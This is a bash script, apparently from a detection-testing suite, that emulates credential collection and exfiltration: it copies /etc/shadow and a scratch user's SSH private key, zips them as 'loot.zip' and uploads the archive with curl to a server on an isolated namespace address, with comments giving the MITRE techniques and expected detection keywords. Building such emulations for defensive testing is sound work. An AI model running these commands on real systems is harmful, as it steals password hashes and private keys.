#!/bin/bash
# vigil-emulation: attack
# technique: T1005 Data from Local System; T1560.001 Archive Collected Data: Archive via Utility; T1048.003 Exfiltration Over Alternative Protocol: Exfiltration Over Unencrypted Non-C2 Protocol
# tactic: collection, exfiltration
# what: stages a copy of /etc/shadow and a scratch user's SSH private key, zips them and
#   uploads the archive with `curl -T` to a web server on a "remote" address (the far
#   end of a veth pair in a private network namespace, 198.18.x.2; nothing leaves the
#   machine).
# report: credential files read and archived, then sent by curl to a non-local address.
# expect: exfil|upload|archive
. "${EMUL_LIB:-$(dirname "$0")/../lib}/common.sh"
emul_need curl zip ip

user=vigil-emul-dev
emul_user "$user"
emul_veth_pair
emul_tmpdir
ssh-keygen -q -t ed25519 -N '' -f "$EMUL_DIR/k"
emul_setup_dir "/home/$user/.ssh" 700 "$user:$user"
emul_setup_file "/home/$user/.ssh/id_ed25519" 600 "$user:$user" "$EMUL_DIR/k"
rm -f "$EMUL_DIR/k" "$EMUL_DIR/k.pub"
www=$EMUL_DIR/www
mkdir -p "$www" "$EMUL_DIR/stage"
: >"$EMUL_DIR/ready"
emul_bg ip netns exec "$EMUL_NS" "$PY" "$SERVERS" http --host "$EMUL_PEER_IP" --dir "$www" \
    --ready-file "$EMUL_DIR/ready"
port=$(emul_ready "$EMUL_DIR/ready")
cp /etc/shadow "$EMUL_DIR/stage/s"
cp "/home/$user/.ssh/id_ed25519" "$EMUL_DIR/stage/k"
(cd "$EMUL_DIR/stage" && zip -q -r ../loot.zip .)
curl -s -T "$EMUL_DIR/loot.zip" "http://$EMUL_PEER_IP:$port/loot.zip"
